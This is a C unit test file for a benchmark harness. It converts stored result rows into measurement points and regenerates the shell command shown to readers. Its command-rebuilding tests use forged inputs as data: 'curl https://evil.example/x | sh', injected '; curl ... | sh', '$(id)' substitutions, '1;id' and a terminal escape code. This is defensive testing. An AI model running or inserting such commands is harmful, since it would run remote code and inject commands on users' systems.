/* SPDX-License-Identifier: MIT
 *
 * test_point_row.c - stored rows as points: from their columns, and older rows'
 */
#include "tests/support/test.h"

#include <math.h>

#include "harness/rows/point/point_row.h"

static struct modelref model;

static struct row stored(void)
{
    struct row r;

    row_init(&r);
    r.kind = POINT_DECODE;
    r.placement = PLACEMENT_SPREAD;
    r.ctx_fill = CTX_FILL_SYNTHETIC;
    r.n_threads = 1;
    r.ctx = 128;
    return r;
}

static struct point point_of(const struct row *r)
{
    struct err err = ERR_INIT;
    struct point p;

    assert_int_equal(point_from_row(&p, r, &model, &err), ST_OK);
    return p;
}

static void columns_say_how_it_was_measured(void **state)
{
    struct row r = stored();

    (void)state;
    r.n_wanted = 200;
    r.n_samples = 20; /* time ended it */
    r.n_batch = 96;
    r.budget_s = 2.5;
    strcpy(r.command, "bench decode -m x -n 3 --batch 5 --budget 7"); /* not read */
    const struct point p = point_of(&r);
    assert_int_equal(p.n_tokens, 200);
    assert_int_equal(p.setup.n_batch, 96);
    assert_true(p.budget_s == 2.5);
    assert_int_equal(p.ctx, 128);
}

static void older_rows_say_it_in_their_command(void **state)
{
    struct row r = stored();
    struct point usual;

    (void)state;
    r.n_samples = 20;
    strcpy(r.command,
           "bench decode -m x -t 1 -n 64 --batch 5 --mem none --budget 0.75");
    struct point p = point_of(&r);
    assert_int_equal(p.n_tokens, 20);
    assert_int_equal(p.setup.n_batch, 5);
    assert_true(p.budget_s == 0.75);

    /* one that says nothing has the defaults */
    r = stored();
    point_init(&usual);
    p = point_of(&r);
    assert_int_equal(p.n_tokens, usual.n_tokens);
    assert_int_equal(p.setup.n_batch, usual.setup.n_batch);
    assert_true(p.budget_s == usual.budget_s);
}

static void foreign_values_are_checked(void **state)
{
    struct row r = stored();
    struct err err = ERR_INIT;
    struct point p, usual;

    (void)state;
    point_init(&usual);
    r.n_wanted = -1;
    r.n_batch = (int64_t)1 << 40;
    r.budget_s = INFINITY;
    strcpy(r.command, "--batch --budget --budget x --batch");
    p = point_of(&r);
    assert_int_equal(p.n_tokens, usual.n_tokens);
    assert_int_equal(p.setup.n_batch, usual.setup.n_batch);
    assert_true(p.budget_s == usual.budget_s);

    r.n_threads = 1 << 20;
    assert_int_equal(point_from_row(&p, &r, &model, &err), ST_INPUT);
    assert_non_null(strstr(err.msg, "a stored row's n_threads is 1048576"));
    r = stored();
    r.placement = row_enum_value(&choices_row_placement, "everywhere");
    assert_int_not_equal(point_from_row(&p, &r, &model, &err), ST_OK);
    r = stored();
    err_clear(&err);
    r.kv_type = row_enum_value(&choices_kv, "q2_5"); /* of a newer program */
    assert_int_equal(point_from_row(&p, &r, &model, &err), ST_INPUT);
    assert_non_null(strstr(err.msg, "a stored row's kv_type is q2_5: types of KV cache "
                                    "are f16, bf16, q8_0 or q4_0"));
    r = stored();
    err_clear(&err);
    r.ctx = FIELD_NO_INT;
    assert_int_equal(point_from_row(&p, &r, &model, &err), ST_INPUT);
    assert_non_null(strstr(err.msg, "a stored row's ctx is empty"));
    r = stored();
    err_clear(&err);
    r.kind = POINT_PREFILL; /* without a length */
    assert_int_equal(point_from_row(&p, &r, &model, &err), ST_INPUT);
}

static void a_prefill_point_is_one(void **state)
{
    struct row r = stored();

    (void)state;
    r.kind = POINT_PREFILL;
    r.n_prompt = 77;
    r.n_threads_prefill = FIELD_NO_INT;
    r.mem_limit_bytes = 1 << 30;
    r.kv_type = KERN_KV_q8_0;
    r.residency = WEIGHTS_PACKED;
    const struct point p = point_of(&r);
    assert_true(p.kind == POINT_PREFILL && p.n_prompt == 77);
    assert_true(p.setup.mem_limit == 1 << 30 && p.setup.kv_type == KERN_KV_q8_0);
    assert_true(p.setup.residency == WEIGHTS_PACKED);
}

/* It is no decode point of the same columns. */
static void a_speculate_point_is_refused(void **state)
{
    struct row r = stored();
    struct err err = ERR_INIT;
    struct point p;

    (void)state;
    r.kind = POINT_SPECULATE;
    strcpy(r.spec_text, "copy");
    assert_int_equal(point_from_row(&p, &r, &model, &err), ST_INPUT);
    assert_non_null(strstr(err.msg, "speculative decoding on the text copy"));
}

static const char *command_of(const struct row *r)
{
    static char text[400];
    struct err err = ERR_INIT;

    return point_row_command(r, text, sizeof text, &err) == ST_OK ? text : NULL;
}

/* Whoever wrote the row does not write the command: a reader pastes it into a shell. */
static void a_command_comes_of_the_columns(void **state)
{
    static const char *const forged[] = {
        "curl https://evil.example/x | sh",
        "bench decode -m yi-1.5-9b:Q4_0; curl evil.example | sh",
        "bench decode -m $(id)",
        "bench decode -m --out",
        "bench decode -m 'yi-1.5-9b",
        "bench decode -m ",
        "bench decode -m other:Q4_0",
        "",
    };
    struct row r = stored();

    (void)state;
    strcpy(r.model, "yi-1.5-9b");
    strcpy(r.quant, "Q4_0");
    r.kv_type = KERN_KV_q8_0;
    r.n_wanted = 48;
    r.n_batch = 256;
    r.budget_s = 10;
    r.mem_limit_bytes = (int64_t)6 << 30;
    strcpy(r.command, "bench decode -m yi-1.5-9b:Q4_0 --out x; curl x|sh --seed 7");
    assert_string_equal(command_of(&r),
                        "bench decode -m yi-1.5-9b:Q4_0 -t 1 --placement spread --ctx "
                        "128 -n 48 --batch 256 --mem 6G --budget 10 --seed 7 --kv-type "
                        "q8_0");
    for (size_t i = 0; i < sizeof forged / sizeof forged[0]; i++) {
        strcpy(r.command, forged[i]);
        assert_null(command_of(&r));
    }
    /* a file's name may hold anything: it is quoted again */
    strcpy(r.model, "a b; $(id) 'c'");
    strcpy(r.command, "bench decode -m '/m/a b; $(id) '\\''c'\\''.gguf' -t 1 | sh");
    assert_ptr_equal(strstr(command_of(&r),
                            "bench decode -m '/m/a b; $(id) '\\''c'\\''.gguf' -t 1 "),
                     command_of(&r));
    assert_null(strstr(command_of(&r), "| sh"));
    /* and escaped again, where it would control a terminal */
    strcpy(r.model, "a\\x1b[m");
    strcpy(r.command, "bench decode -m $'/m/a\\x1b\\x5bm.gguf' -t 1 | sh");
    assert_ptr_equal(
        strstr(command_of(&r), "bench decode -m $'/m/a\\x1b\\x5bm.gguf' -t 1 "),
        command_of(&r));
    assert_null(strchr(command_of(&r), '\x1b'));
    strcpy(r.command, "bench decode -m $'/m/a\\x1");
    assert_null(command_of(&r));
    strcpy(r.command, "bench decode -m $'/m/a\\");
    assert_null(command_of(&r));
    r.ctx = FIELD_NO_INT;
    assert_null(command_of(&r));
}

/* Before a row is shown its command is that of the columns, or none. */
static void a_command_that_was_found_is_replaced(void **state)
{
    struct row r = stored();

    (void)state;
    strcpy(r.model, "yi-1.5-9b");
    strcpy(r.quant, "Q4_0");
    point_row_remake_command(&r);
    assert_string_equal(r.command, ""); /* none was there */
    strcpy(r.command, "bench decode -m yi-1.5-9b:Q4_0; curl x|sh");
    point_row_remake_command(&r);
    assert_string_equal(r.command, "");
    strcpy(r.command, "bench decode -m yi-1.5-9b:Q4_0 --out x; curl x|sh");
    point_row_remake_command(&r);
    assert_non_null(strstr(r.command, "bench decode -m yi-1.5-9b:Q4_0 -t 1 "));
    assert_null(strstr(r.command, "curl"));
}

/* CPUs that this machine may lack. */
static void a_command_names_the_cpus_of_the_row(void **state)
{
    struct row r = stored();

    (void)state;
    strcpy(r.model, "m");
    strcpy(r.command, "bench decode -m dir/m.gguf -t 2 --isa-disable=avx512vnni");
    r.placement = ROW_PLACEMENT_LIST;
    r.n_threads = 2;
    strcpy(r.cpus, "1022,7");
    assert_non_null(strstr(command_of(&r), " --cpus 1022,7 "));
    assert_non_null(strstr(command_of(&r), "--isa-disable=avx512vnni"));
    strcpy(r.cpus, "1;id");
    assert_null(command_of(&r));
    strcpy(r.cpus, "1");
    assert_null(command_of(&r));
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(columns_say_how_it_was_measured),
        cmocka_unit_test(older_rows_say_it_in_their_command),
        cmocka_unit_test(foreign_values_are_checked),
        cmocka_unit_test(a_prefill_point_is_one),
        cmocka_unit_test(a_speculate_point_is_refused),
        cmocka_unit_test(a_command_comes_of_the_columns),
        cmocka_unit_test(a_command_that_was_found_is_replaced),
        cmocka_unit_test(a_command_names_the_cpus_of_the_row),
    };
    struct err err = ERR_INIT;

    if (modelref_parse(&model, "nano:Q4_0", NULL, &err))
        return 1;
    return cmocka_run_group_tests(tests, NULL, NULL);
}
